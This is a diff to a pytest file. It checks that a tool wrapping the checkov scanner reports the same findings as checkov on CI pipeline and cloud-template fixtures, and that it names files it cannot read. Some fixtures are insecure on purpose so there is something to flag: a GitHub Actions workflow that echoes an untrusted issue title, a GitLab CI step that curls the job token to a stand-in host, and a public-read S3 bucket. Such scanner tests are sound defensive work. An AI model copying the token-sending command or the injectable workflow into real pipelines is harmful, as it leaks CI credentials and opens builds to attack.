@@ -35,6 +35,39 @@ LOOKS: Mapping[str, list[str]] = {
     "secrets": list(FILES),
     "terraform": ["broken.tf", "main.tf"],
 }
+PIPELINES: Mapping[str, tuple[str, str, set[str]]] = {
+    "github_actions": (
+        ".github/workflows/a.yml",
+        'on:\n  issues: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
+        {"CKV_GHA_2", "CKV2_GHA_1"},
+    ),
+    "gitlab_ci": (
+        "a/.gitlab-ci.yml",
+        'a:\n  script:\n    - curl -d "$CI_JOB_TOKEN" http://localhost/x\n',
+        {"CKV_GITLABCI_1"},
+    ),
+    "circleci_pipelines": (
+        ".circleci/config.yml",
+        "version: 2.1\njobs:\n  a:\n    docker:\n      - image: mongo:latest\n    steps: [checkout]\n",
+        {"CKV_CIRCLECIPIPELINES_1"},
+    ),
+    "azure_pipelines": (
+        "azure-pipelines.yml",
+        "jobs:\n  - job: a\n    container: {image: 'ubuntu:latest'}\n    steps: [{bash: ls}]\n",
+        {"CKV_AZUREPIPELINES_1"},
+    ),
+    "bitbucket_pipelines": ("bitbucket-pipelines.yml", "image: node:latest\n", {"CKV_BITBUCKETPIPELINES_1"}),
+    "cloudformation": (
+        "stack.yaml",
+        "Resources:\n  B:\n    Type: AWS::S3::Bucket\n    Properties: {BucketName: !Ref a}\n",
+        {"CKV_AWS_18"},
+    ),
+    "terraform_json": (
+        "main.tf.json",
+        '{"resource": {"aws_s3_bucket": {\n  "b": {"bucket": "x", "acl": "public-read"}\n}}}\n',
+        {"CKV_AWS_20", "CKV2_AWS_6"},
+    ),
+}
 
 
 @pytest.fixture(scope="module")
@@ -50,6 +83,7 @@ def command() -> tuple[str, ...]:
 def written(root: Path, files: Mapping[str, str]) -> Path:
     root.mkdir()
     for name, text in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
         (root / name).write_text(text)
     return root
 
@@ -74,10 +108,12 @@ def by_hand(command: tuple[str, ...], root: Path, home: Path, *frameworks: str) 
     options = ["-d", ".", "--framework", *frameworks, "--skip-download", "--quiet", "--compact", "-o", "json"]
     done = subprocess.run([program, *options], cwd=root, env=environ(home), capture_output=True, text=True, check=False)
     said = json.loads(done.stdout)
-    checks = [
-        one for report in (said if isinstance(said, list) else [said]) for one in report["results"]["failed_checks"]
-    ]
-    return {(one["check_id"], os.path.relpath(one["file_abs_path"], root), one["file_line_range"][0]) for one in checks}
+    reports = [report["results"] for report in (said if isinstance(said, list) else [said]) if "results" in report]
+    checks = [one for report in reports for one in report["failed_checks"]]
+    return {
+        (one["check_id"], os.path.relpath(root / one["file_abs_path"], root), one["file_line_range"][0])
+        for one in checks
+    }
 
 
 def test_it_finds_what_the_command_finds(command: tuple[str, ...], tmp_path: Path) -> None:
@@ -127,3 +163,94 @@ def test_a_configuration_can_neither_fetch_nor_silence(command: tuple[str, ...],
     assert {"CKV_DOCKER_4", "CKV_ANSIBLE_2"} <= {rule for rule, _, _ in failed(answer)}
     assert answer["elsewhere"] == [{"name": "https://localhost/x.git", "path": ".checkov.yaml", "line": 7}]
     assert sorted(path.name for path in root.iterdir()) == sorted([*FILES, ".checkov.yaml"])
+
+
+def test_it_finds_what_the_command_finds_in_pipelines_and_templates(command: tuple[str, ...], tmp_path: Path) -> None:
+    root = written(tmp_path / "copy", {path: text for path, text, _ in PIPELINES.values()})
+    answer = ask(command, root, tmp_path / "home", {name: [path] for name, (path, *_) in PIPELINES.items()})
+    assert (answer["stage"], answer["error"], answer["unread"]) == ("end", "", [])
+    assert failed(answer) == by_hand(command, root, tmp_path / "hand", *PIPELINES)
+    said = {report["framework"]: {one["rule"] for one in report["failed"]} for report in answer["reports"]}
+    assert all(rules <= said[name] for name, (*_, rules) in PIPELINES.items())
+
+
+@pytest.mark.parametrize("framework", PIPELINES)
+def test_one_framework_alone_says_the_same(framework: str, command: tuple[str, ...], tmp_path: Path) -> None:
+    path, text, rules = PIPELINES[framework]
+    root = written(tmp_path / "copy", {path: text, "Dockerfile": FILES["Dockerfile"]})
+    answer = ask(command, root, tmp_path / "home", {framework: [path], "dockerfile": ["Dockerfile"]})
+    assert failed(answer) == by_hand(command, root, tmp_path / "hand", framework, "dockerfile")
+    assert rules <= {rule for rule, *_ in failed(answer)}
+
+
+def test_files_that_are_no_templates_are_not_asked_about(command: tuple[str, ...], tmp_path: Path) -> None:
+    root = written(tmp_path / "copy", {"a.json": '{"resources": {}}\n', "a.template": "Resources\n"})
+    answer = ask(command, root, tmp_path / "home", {"cloudformation": list(map(str, root.iterdir())), "kubernetes": []})
+    assert answer["frameworks"] == ["kubernetes"]
+
+
+def test_pipelines_and_templates_that_it_would_pass_over_are_named(command: tuple[str, ...], tmp_path: Path) -> None:
+    workflow, good, _ = PIPELINES["github_actions"]
+    files = {
+        "github_actions": {
+            workflow: good,
+            ".github/workflows/broken.yml": "on: push\njobs: {\n",
+            ".github/workflows/empty.yml": "# nothing yet\n",
+            ".github/workflows/out.yml": "jobs: {\n",
+            ".github/workflows/lint/rules.yml": "rules: []\n",
+            ".github/workflows/unknown.yml": "on: push\njobs: {}\nwhat: 1\n",
+        },
+        "gitlab_ci": {
+            ".gitlab-ci.yml": "a:\n  script:\n    - !reference [.b, script]\n",
+            "a.gitlab-ci.yml": "- a #checkov:skip=CKV_GITLABCI_1:x\n",
+        },
+        "cloudformation": {
+            "broken.yaml": "Resources:\n  A: {\n",
+            "broken.json": '{\n  "Resources": {\n',
+            "twice.json": '{"Resources": {"A": {}, "A": {}}}\n',
+            "nested.yaml": "a:\n  Resources: {}\n---\nb: 1\n",
+            "tabs.json": '{\n\t"Resources": {\n\t}\n}\n',
+            "chart.yaml": "Resources:\n{{ a }}\n",
+            "stack.yaml": PIPELINES["cloudformation"][1],
+        },
+        "terraform_json": {
+            "broken.tf.json": '{\n  "a": \n',
+            "empty.tf.json": "{}",
+            "fails.tf.json": '{"module": {"m": {"source": "./m", "version": {}}}}\n',
+            "list.tf.json": '[{"locals": {}}]',
+            "main.tf.json": PIPELINES["terraform_json"][1],
+        },
+    }
+    config = {".checkov.yaml": "skip-path: [out.yml]\n"}
+    root = written(tmp_path / "copy", {path: text for own in (*files.values(), config) for path, text in own.items()})
+    asked = json.dumps({"files": {name: list(own) for name, own in files.items()}, "templates": ["chart.yaml"]})
+    env = environ(tmp_path / "home")
+    done = subprocess.run(command, cwd=root, env=env, input=asked, capture_output=True, text=True, check=True)
+    answer = json.loads(done.stdout)
+    assert {one["path"]: one["line"] for one in answer["unread"]} == {
+        ".github/workflows/broken.yml": 3,
+        ".github/workflows/unknown.yml": 0,
+        ".gitlab-ci.yml": 0,
+        "a.gitlab-ci.yml": 1,
+        "broken.json": 3,
+        "broken.tf.json": 3,
+        "broken.yaml": 3,
+        "fails.tf.json": 1,
+        "list.tf.json": 0,
+        "twice.json": 0,
+    }
+    assert {path for _, path, _ in failed(answer)} == {
+        workflow,
+        "main.tf.json",
+        "stack.yaml",
+    }  # what made checkov fail costs no other
+
+
+def test_a_configuration_leaves_out_frameworks_and_checks(command: tuple[str, ...], tmp_path: Path) -> None:
+    config = "skip-check: [CKV2_GHA_1]\nskip-framework: [cloudformation]\n"
+    files = {path: text for path, text, _ in PIPELINES.values()}
+    root = written(tmp_path / "copy", {**files, ".checkov.yaml": config})
+    looks = {name: [path] for name, (path, *_) in PIPELINES.items() if name in ("github_actions", "cloudformation")}
+    answer = ask(command, root, tmp_path / "home", looks)
+    assert answer["frameworks"] == ["github_actions"]
+    assert {rule for rule, *_ in failed(answer)} == {"CKV_GHA_2"}
